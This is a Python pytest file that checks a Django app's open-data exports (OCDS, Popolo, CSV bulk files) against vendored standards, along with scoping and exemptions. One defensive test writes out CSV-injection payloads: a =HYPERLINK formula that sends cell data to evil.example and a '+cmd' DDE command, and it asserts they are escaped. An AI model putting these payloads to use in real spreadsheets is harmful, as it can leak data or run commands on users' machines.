"""Open data per trust: JSON and CSV bulk downloads, the OCDS release and record packages and Popolo people
and memberships, each validated against the published standards vendored in opendata/standards/
(jsonschema with format checking, every $ref resolved from those files, never the network; the OCDS
codelists; and libcoveocds, offline, with a ZIP of the vendored standard)."""

import csv
import datetime as dt
import io
import json
import zipfile
from decimal import Decimal
from pathlib import Path
from zoneinfo import ZoneInfo

import pytest
from django.core.checks import run_checks
from django.core.files.uploadedfile import SimpleUploadedFile
from jsonschema import Draft3Validator, Draft4Validator, FormatChecker
from referencing import Registry, Resource
from referencing.jsonschema import DRAFT3, DRAFT4

from contracts.models import Contract, ContractYearFinance, Variation
from meetings import services as meeting_services
from meetings.models import Document
from tests.contracts.factories import FinanceYearFactory, VariationFactory
from tests.meetings.factories import AgendaItemFactory, MeetingFactory
from trustgov.accounts.models import User

from .helpers import assert_problem, client_with, token_for

pytestmark = pytest.mark.django_db

STANDARDS = Path(__file__).resolve().parents[2] / "opendata" / "standards"
OCDS = STANDARDS / "ocds-1.1.5"
POPOLO = STANDARDS / "popolo"
OCDS_URL = "https://standard.open-contracting.org/schema/1__1__5/"
PDF_BYTES = b"%PDF-1.4\n1 0 obj<<>>endobj\ntrailer<<>>\n%%EOF\n"
SANDWELL = "/api/v1/open-data/trusts/sandwell-trust/"
STAND_IN = json.dumps({"$schema": "http://json-schema.org/draft-04/schema#"})


def _no_network(uri: str):
    raise LookupError(f"{uri} is not vendored: the tests never fetch a schema")


def _registry(folder: Path, spec) -> Registry:
    resources = []
    for path in sorted(folder.glob("*.json")):
        schema = json.loads(path.read_text())
        resources.append((schema["id"].rstrip("#"), Resource(contents=schema, specification=spec)))
    return Registry(retrieve=_no_network).with_resources(resources)


def _errors(validator) -> callable:
    def check(document: dict) -> list[str]:
        found = sorted(validator.iter_errors(document), key=lambda e: list(e.absolute_path))
        return [f"{list(e.absolute_path)}: {e.message}" for e in found]

    return check


def ocds_errors(document: dict, package: str) -> list[str]:
    schema = json.loads((OCDS / f"{package}-schema.json").read_text())
    registry = _registry(OCDS, DRAFT4)
    return _errors(Draft4Validator(schema, registry=registry, format_checker=FormatChecker()))(document)


def popolo_errors(document: dict) -> list[str]:
    registry = _registry(POPOLO, DRAFT3)
    errors = []
    for key, name in (("persons", "person"), ("organizations", "organization"), ("memberships", "membership")):
        schema = json.loads((POPOLO / f"{name}.json").read_text())
        check = _errors(Draft3Validator(schema, registry=registry, format_checker=FormatChecker()))
        for i, item in enumerate(document[key]):
            errors += [f"{key}[{i}] {e}" for e in check(item)]
    return errors


def _codes(codelist: str) -> set[str]:
    with (OCDS / "codelists" / codelist).open(newline="") as f:
        return {row["Code"] for row in csv.DictReader(f)}


def codelist_errors(document, schema: dict | None = None, root: dict | None = None, path="") -> list[str]:
    """Every value of a field the release schema gives a codelist is a code of that vendored CSV (open codelists
    too: TrustGov uses no code of its own)."""
    if schema is None:
        root = json.loads((OCDS / "release-schema.json").read_text())
        return [e for i, r in enumerate(document["releases"]) for e in codelist_errors(r, root, root, f"releases[{i}]")]
    while "$ref" in schema and schema["$ref"].startswith("#/definitions/"):
        schema = root["definitions"][schema["$ref"].rsplit("/", 1)[1]]
    errors = []
    if "codelist" in schema and document is not None:
        codes = _codes(schema["codelist"])
        for value in document if isinstance(document, list) else [document]:
            if value not in codes:
                errors.append(f"{path}: {value!r} is not in {schema['codelist']}")
    elif isinstance(document, dict):
        for key, value in document.items():
            if key in schema.get("properties", {}):
                errors += codelist_errors(value, schema["properties"][key], root, f"{path}.{key}")
    elif isinstance(document, list) and isinstance(schema.get("items"), dict):
        for i, value in enumerate(document):
            errors += codelist_errors(value, schema["items"], root, f"{path}[{i}]")
    return errors


def standard_zip(tmp_path: Path) -> Path:
    """The vendored standard laid out as the open-contracting/standard repository's ZIP, for libcoveocds."""
    path = tmp_path / "standard-1__1__5.zip"
    with zipfile.ZipFile(path, "w") as z:
        z.writestr("standard-1__1__5/", "")
        for file in sorted(OCDS.rglob("*")):
            if file.is_file() and file.suffix in {".json", ".csv"}:
                z.write(file, f"standard-1__1__5/schema/{file.relative_to(OCDS)}")
        # libcoveocds loads this schema up front; it applies only to a record's versionedRelease, which TrustGov
        # never publishes (asserted below), and it is not vendored, so an empty schema stands in for it.
        z.writestr("standard-1__1__5/schema/versioned-release-validation-schema.json", STAND_IN)
    return path


def cove_results(document: dict, tmp_path: Path, monkeypatch) -> dict:
    libcoveocds_api = pytest.importorskip("libcoveocds.api")
    import requests
    from libcoveocds.config import LibCoveOCDSConfig

    def refuse(*args, **kwargs):
        raise AssertionError(f"libcoveocds tried the network: {args[:2]}")

    monkeypatch.setattr(requests.Session, "request", refuse)
    config = LibCoveOCDSConfig()
    config.config.update(
        standard_zip=f"file://{standard_zip(tmp_path)}", context="api", additional_checks="all", skip_aggregates=True
    )
    data = tmp_path / "package.json"
    data.write_text(json.dumps(document))
    out = tmp_path / "cove"
    out.mkdir()
    return libcoveocds_api.ocds_json_output(str(out), str(data), None, convert=False, lib_cove_ocds_config=config)


def get(path: str, user="dfe-liaison") -> dict:
    response = client_with(token_for(user)).get(path)
    assert response.status_code == 200, response.content[:500]
    return response.json()


def sandwell_contract() -> Contract:
    return Contract.objects.filter(delivery_body__slug="sandwell-trust").order_by("pk").first()


def publish_paper(contract: Contract, title: str, **kw) -> Document:
    """A paper for a meeting of the contract's trust, published as the steps allow."""
    officer = User.objects.get(username="sandwell-officer")
    meeting = MeetingFactory(
        delivery_body=contract.delivery_body,
        council=contract.council,
        date=dt.date(2026, 10, 20),
        papers_published_on=dt.date(2026, 10, 8),
    )
    item = AgendaItemFactory(meeting=meeting, title=f"Item for {title}")
    paper = meeting_services.document_upload(
        agenda_item=item, user=officer, title=title, file=SimpleUploadedFile("paper.pdf", PDF_BYTES), **kw
    )
    return paper


# --- The real standards -----------------------------------------------------------------------------------


def test_the_vendored_files_are_the_published_ones_unchanged():
    shared = Path("/work/shared/standards")
    if not shared.exists():
        pytest.skip("the publishers' copies are not on this machine")
    for folder, names in ((OCDS, "*.json"), (OCDS / "codelists", "*.csv"), (POPOLO, "*.json")):
        for file in folder.glob(names):
            assert file.read_bytes() == (shared / file.relative_to(STANDARDS)).read_bytes(), file
    assert (OCDS / "LICENSE").read_bytes() == (shared / "ocds-1.1.5" / "LICENSE").read_bytes()


def test_a_broken_release_fails_the_real_schema_and_codelists():
    bad = {
        "uri": "https://x.test/",
        "version": "1.1",
        "publishedDate": "2026-11-01T00:00:00Z",
        "publisher": {"name": "x"},
        "releases": [{"id": "1", "date": "yesterday", "tag": ["signed"], "initiationType": "tender"}],
    }
    errors = ocds_errors(bad, "release-package")
    assert any("'ocid' is a required property" in e for e in errors)
    assert any("'yesterday' is not a 'date-time'" in e for e in errors), errors
    assert codelist_errors(bad) == ["releases[0].tag: 'signed' is not in releaseTag.csv"]
    assert popolo_errors({"persons": [{"name": 3}], "organizations": [], "memberships": [{"start_date": "May"}]})


def test_ocds_release_package_is_valid_against_the_schema_codelists_and_libcoveocds(tmp_path, monkeypatch):
    body = get(SANDWELL + "ocds.json")
    assert ocds_errors(body, "release-package") == []
    assert codelist_errors(body) == []
    assert body["releases"], "Sandwell's demo contract should be published"
    results = cove_results(body, tmp_path, monkeypatch)
    assert results["validation_errors"] == []
    assert not results.get("additional_closed_codelist_values"), results.get("additional_closed_codelist_values")
    assert not results.get("additional_open_codelist_values"), results.get("additional_open_codelist_values")
    assert not results.get("additional_fields_count"), results.get("additional_fields")


def test_ocds_record_package_is_valid_and_compiles_each_contracts_history(tmp_path, monkeypatch):
    body = get(SANDWELL + "ocds-records.json")
    assert ocds_errors(body, "record-package") == []
    for record in body["records"]:
        assert codelist_errors({"releases": [*record["releases"], record["compiledRelease"]]}) == []
        assert record["compiledRelease"]["tag"] == ["compiled"]
        assert record["compiledRelease"]["contracts"] == record["releases"][-1]["contracts"]
        assert {r["ocid"] for r in record["releases"]} == {record["ocid"]}
        assert "versionedRelease" not in record
    releases = get(SANDWELL + "ocds.json")["releases"]
    assert [r["id"] for rec in body["records"] for r in rec["releases"]] == [r["id"] for r in releases]
    # libcoveocds 0.17.0 dereferences the record-package schema with jsonref, which fetches
    # versioned-release-validation-schema.json from the network; offline, it checks the compiled releases as a
    # release package (the releases themselves are checked in the release package test).
    compiled = {**{k: v for k, v in body.items() if k != "records"}, "releases": []}
    compiled["releases"] = [r["compiledRelease"] for r in body["records"]]
    results = cove_results(compiled, tmp_path, monkeypatch)
    assert results["validation_errors"] == []
    assert not results.get("additional_closed_codelist_values") and not results.get("additional_fields_count")


# --- What the OCDS export says ----------------------------------------------------------------------------


@pytest.fixture
def sandwell_story(time_machine):
    """Sandwell's contract with a signing date, two financial years, an approved variation, a withdrawn one and a
    published paper, each change on its own day after everything the demo recorded (asked of the data)."""
    contract = sandwell_contract()
    recorded = [h.history_date for h in contract.history.all()]
    recorded += [h.history_date for h in Variation.history.filter(contract_id=contract.pk)]
    recorded += [h.history_date for h in ContractYearFinance.history.filter(contract_id=contract.pk)]
    recorded += [d for d in Document.objects.values_list("published_at", flat=True) if d]
    start = dt.datetime.combine(max(recorded).date() + dt.timedelta(days=1), dt.time(10), tzinfo=dt.UTC)
    days = [start + dt.timedelta(days=n) for n in range(5)]
    time_machine.move_to(days[0], tick=False)
    contract.signed_on = dt.date(2018, 3, 28)
    contract.save()
    for year in ContractYearFinance.objects.filter(contract=contract):
        year.delete()
    time_machine.move_to(days[1], tick=False)
    FinanceYearFactory(contract=contract, financial_year=2025, contract_sum=Decimal("60000000.00"))
    FinanceYearFactory(contract=contract, financial_year=2026, contract_sum=Decimal("61500000.50"))
    time_machine.move_to(days[2], tick=False)
    approved = VariationFactory(
        contract=contract,
        title="Edge of care service moves to the trust",
        status=Variation.Status.IN_EFFECT,
        effective_on=dt.date(2026, 10, 1),
    )
    VariationFactory(contract=contract, title="Withdrawn idea", status=Variation.Status.WITHDRAWN)
    time_machine.move_to(days[3], tick=False)
    paper = publish_paper(contract, "Annual contract review 2026")
    officer = User.objects.get(username="sandwell-officer")
    meeting_services.document_publication(document=paper, user=officer, target=Document.Publication.APPROVED)
    meeting_services.document_publication(document=paper, user=officer, target=Document.Publication.PUBLISHED)
    publish_paper(contract, "Draft contract review, not yet approved")
    time_machine.move_to(days[4], tick=False)
    return contract, approved, paper, [f"{d:%Y-%m-%d}" for d in days]


def test_the_latest_release_carries_value_amendments_documents_parties_and_dates(sandwell_story, settings):
    contract, approved, paper, _ = sandwell_story
    body = get(SANDWELL + "ocds.json")
    assert ocds_errors(body, "release-package") == [] and codelist_errors(body) == []
    mine = [r for r in body["releases"] if r["ocid"] == f"{settings.OCDS_PREFIX}-{contract.reference}"]
    latest = mine[-1]["contracts"][0]
    assert latest["value"] == {"amount": 121500000.5, "currency": "GBP"}
    assert [(i["id"], i["unit"]["value"]["amount"]) for i in latest["items"]] == [
        ("financial-year-2025", 60000000.0),
        ("financial-year-2026", 61500000.5),
    ]
    in_effect = Variation.objects.filter(contract=contract, status="in_effect", is_exempt=False)
    assert {a["rationale"] for a in latest["amendments"]} == set(in_effect.values_list("title", flat=True))
    assert "Withdrawn idea" not in {a["rationale"] for a in latest["amendments"]}
    ours = next(a for a in latest["amendments"] if a["id"] == f"variation-{approved.pk}")
    assert ours["date"] == "2026-10-01T00:00:00+01:00" and ours["rationale"] == approved.title
    titles = {d["title"] for d in latest["documents"]}
    assert "Annual contract review 2026" in titles and "Draft contract review, not yet approved" not in titles
    assert all(
        Document.objects.get(pk=d["id"].removeprefix("meeting-paper-")).publication == "published"
        for d in latest["documents"]
    )
    ours = next(d for d in latest["documents"] if d["title"] == "Annual contract review 2026")
    assert ours["url"] == f"{settings.SITE_URL}/meetings/documents/{paper.pk}/"
    assert latest["dateSigned"] == "2018-03-28T00:00:00+01:00"
    end = dt.datetime.fromisoformat(latest["period"]["endDate"])
    assert (end.date(), end.time()) == (contract.end_date, dt.time(23, 59, 59))
    assert end.utcoffset() == ZoneInfo("Europe/London").utcoffset(end.replace(tzinfo=None))
    assert latest["period"]["startDate"] == f"{contract.start_date.isoformat()}T00:00:00" + (
        "+01:00" if ZoneInfo("Europe/London").dst(dt.datetime.combine(contract.start_date, dt.time())) else "+00:00"
    )
    buyer = next(p for p in mine[-1]["parties"] if "buyer" in p["roles"])
    council = contract.council
    identifiers = [buyer["identifier"], *buyer.get("additionalIdentifiers", [])]
    assert {(i["scheme"], i["id"]) for i in identifiers} == {
        ("GB-GSS", council.gss_code),
        ("GB-DFE-LA", council.la_code),
    }
    assert "trustgov.local" not in json.dumps(body)
    assert body["publicationPolicy"].startswith(settings.SITE_URL)


def test_each_change_is_its_own_release_tagged_for_what_changed(sandwell_story):
    contract, approved, _, days = sandwell_story
    record = next(r for r in get(SANDWELL + "ocds-records.json")["records"] if r["ocid"].endswith(contract.reference))
    releases = record["releases"]
    assert len({r["id"] for r in releases}) == len(releases) and releases[0]["tag"] == ["contract"]
    dates = [r["date"] for r in releases]
    assert dates == sorted(dates)
    by_day = {r["date"][:10]: r for r in releases}
    assert "dateSigned" not in by_day[min(by_day)]["contracts"][0]
    assert by_day[days[0]]["contracts"][0]["dateSigned"].startswith("2018-03-28")
    assert by_day[days[1]]["contracts"][0]["value"]["amount"] == 121500000.5
    amended = by_day[days[2]]
    assert amended["tag"] == ["contractAmendment"]
    amendment = next(a for a in amended["contracts"][0]["amendments"] if a["id"] == f"variation-{approved.pk}")
    assert amendment["releaseID"] == amended["id"]
    assert amendment["amendsReleaseID"] == releases[releases.index(amended) - 1]["id"]
    before = releases[releases.index(amended) - 1]["contracts"][0]
    assert amendment["id"] not in {a["id"] for a in before.get("amendments", [])}

    def paper_titles(release):
        return {d["title"] for d in release["contracts"][0].get("documents", [])}

    assert "Annual contract review 2026" not in paper_titles(amended)
    assert "Annual contract review 2026" in paper_titles(by_day[days[3]])
    assert amendment in record["compiledRelease"]["contracts"][0]["amendments"]


def test_date_signed_is_left_out_when_the_signing_date_is_unknown():
    contract = sandwell_contract()
    Contract.objects.filter(pk=contract.pk).update(signed_on=None)  # the demo does not know it either
    mine = [r for r in get(SANDWELL + "ocds.json")["releases"] if r["ocid"].endswith(f"-{contract.reference}")]
    assert mine and not any("dateSigned" in r["contracts"][0] for r in mine)
    assert all(r["contracts"][0]["period"]["startDate"] != r["contracts"][0].get("dateSigned") for r in mine)


def test_exempt_variations_and_papers_and_drafts_reach_no_export(sandwell_story, settings):
    contract, _, _, days = sandwell_story
    VariationFactory(
        contract=contract,
        title="Wombatfee variation",
        description="Wombatfee terms",
        status=Variation.Status.IN_EFFECT,
        effective_on=dt.date(2026, 10, 2),
        is_exempt=True,
        exempt_category="3",
    )
    officer = User.objects.get(username="sandwell-officer")
    exempt = publish_paper(contract, "Wombatfee commercial paper", is_exempt=True, exempt_category="3")
    Document.objects.filter(pk=exempt.pk).update(
        publication=Document.Publication.PUBLISHED, published_at=dt.datetime.fromisoformat(f"{days[3]}T11:00:00+00:00")
    )
    publish_paper(contract, "Wombatfee draft paper")
    assert User.objects.get(username="dfe-liaison").has_perm("meetings.view_document")
    for user in ("dfe-liaison", "sandwell-officer", "sandwell-scrutiny", "sandwell-trust-exec"):
        c = client_with(token_for(user))
        for name in (
            "records.json",
            "ocds.json",
            "ocds-records.json",
            "popolo.json",
            *(f"{r}.csv" for r in ("contracts", "obligations", "bodies", "memberships")),
        ):
            response = c.get(SANDWELL + name)
            assert response.status_code == 200, (user, name)
            assert "wombatfee" not in response.content.decode().lower(), (user, name)
    # Not vacuous: the officer does see the exempt variation outside open data.
    assert (
        "Wombatfee variation"
        in client_with(token_for(officer)).get("/api/v1/variations/?page_size=200").content.decode()
    )


# --- The OCDS prefix --------------------------------------------------------------------------------------


@pytest.mark.parametrize(
    ("prefix", "ok"),
    [
        ("ocds-tgdemo", True),
        ("ocds-a1b2c3", True),
        ("ocds-trustgov", False),
        ("ocds-abc12", False),
        ("ocds-ABC123", False),
        ("ocds-abc123\n", False),
        ("xocds-abc123", False),
        ("", False),
        (None, False),
    ],
)
def test_the_app_refuses_to_start_with_a_malformed_ocds_prefix(settings, prefix, ok):
    settings.OCDS_PREFIX = prefix
    errors = [e for e in run_checks() if e.id == "opendata.E001"]
    assert (errors == []) is ok, errors
    if not ok:
        assert "OCDS_PREFIX" in errors[0].msg


def test_every_ocid_uses_the_configured_prefix(settings):
    settings.OCDS_PREFIX = "ocds-x9y8z7"
    body = get(SANDWELL + "ocds.json")
    assert body["releases"] and all(r["ocid"].startswith("ocds-x9y8z7-") for r in body["releases"])


# --- Popolo -----------------------------------------------------------------------------------------------


def test_popolo_people_and_memberships_are_valid_and_carry_no_contact_details():
    body = get(SANDWELL + "popolo.json")
    assert popolo_errors(body) == []
    assert body["persons"] and body["memberships"] and body["organizations"]
    person_ids = {p["id"] for p in body["persons"]}
    org_ids = {o["id"] for o in body["organizations"]}
    for membership in body["memberships"]:
        assert membership["person_id"] in person_ids and membership["organization_id"] in org_ids
    assert not any("email" in p or "phone" in p or "contact_details" in p for p in body["persons"])


# --- Bulk files and scoping -------------------------------------------------------------------------------


def test_bulk_json_and_csv_hold_the_same_records():
    c = client_with(token_for("sandwell-scrutiny"))
    bundle = c.get(SANDWELL + "records.json").json()
    assert bundle["trust"]["slug"] == "sandwell-trust"
    for resource in ("contracts", "obligations", "bodies", "memberships"):
        response = c.get(f"{SANDWELL}{resource}.csv")
        assert response.status_code == 200 and response["Content-Type"].startswith("text/csv")
        rows = list(csv.DictReader(io.StringIO(response.content.decode())))
        assert [r["id"] for r in rows] == [str(r["id"]) for r in bundle[resource]]
    assert bundle["contracts"]


def test_open_data_is_scoped_and_bad_names_are_404():
    sandwell = client_with(token_for("sandwell-officer"))
    assert_problem(sandwell.get("/api/v1/open-data/trusts/torbay-partnership/records.json"), 404)
    assert_problem(sandwell.get("/api/v1/open-data/trusts/torbay-partnership/ocds-records.json"), 404)
    assert_problem(sandwell.get(SANDWELL + "secrets.csv"), 404)
    from rest_framework.test import APIClient

    assert_problem(APIClient().get(SANDWELL + "ocds.json"), 401)
    assert_problem(APIClient().get(SANDWELL + "ocds-records.json"), 401)


def test_open_data_csv_neutralises_formulas_in_every_cell():
    """A name an officer typed as a formula is served as text, never as =HYPERLINK(...) a spreadsheet would run."""
    from boards.models import Body
    from tests.boards.factories import BodyFactory, MembershipFactory, PersonFactory, SeatFactory
    from trustgov.organisations.models import Council

    sandwell = Council.objects.get(slug="sandwell")
    body = BodyFactory(council=sandwell, name='=HYPERLINK("https://evil.example/?leak="&A1,"Board")')
    seat = SeatFactory(body=body, title="@SUM(A1:A9)")
    MembershipFactory(seat=seat, person=PersonFactory(council=sandwell, name="+cmd|' /C calc'!A0"))
    c = client_with(token_for("sandwell-scrutiny"))
    bodies = list(csv.DictReader(io.StringIO(c.get(SANDWELL + "bodies.csv").content.decode())))
    row = next(r for r in bodies if r["id"] == str(body.pk))
    assert row["name"] == '\'=HYPERLINK("https://evil.example/?leak="&A1,"Board")'
    assert Body.objects.get(pk=body.pk).name.startswith("=HYPERLINK(")  # stored as typed, neutralised on the way out
    raw = c.get(SANDWELL + "memberships.csv").content.decode()
    members = [r for r in csv.DictReader(io.StringIO(raw)) if r["seat__body__name"].startswith("'=HYPERLINK(")]
    assert members and members[0]["seat__title"] == "'@SUM(A1:A9)"
    assert members[0]["person__name"] == "'+cmd|' /C calc'!A0"
    assert not any(cell.startswith(("=", "+", "-", "@")) for line in csv.reader(io.StringIO(raw)) for cell in line)


def test_a_joint_contract_names_every_owning_council_as_a_buyer_and_the_lead_as_the_buyer():
    body = get("/api/v1/open-data/trusts/northamptonshire-trust/ocds.json")
    assert ocds_errors(body, "release-package") == []
    assert codelist_errors(body) == []
    release = body["releases"][-1]
    buyers = {p["name"]: p["roles"] for p in release["parties"] if "buyer" in p["roles"]}
    contract = Contract.objects.get(reference="NNC-WNC-NCT-2020")
    lead, *others = contract.party_councils()
    assert others, "the demo's Northamptonshire contract is joint: both councils are party to it"
    assert buyers == {lead.name: ["buyer", "procuringEntity"], **{c.name: ["buyer"] for c in others}}
    assert release["buyer"]["name"] == lead.name
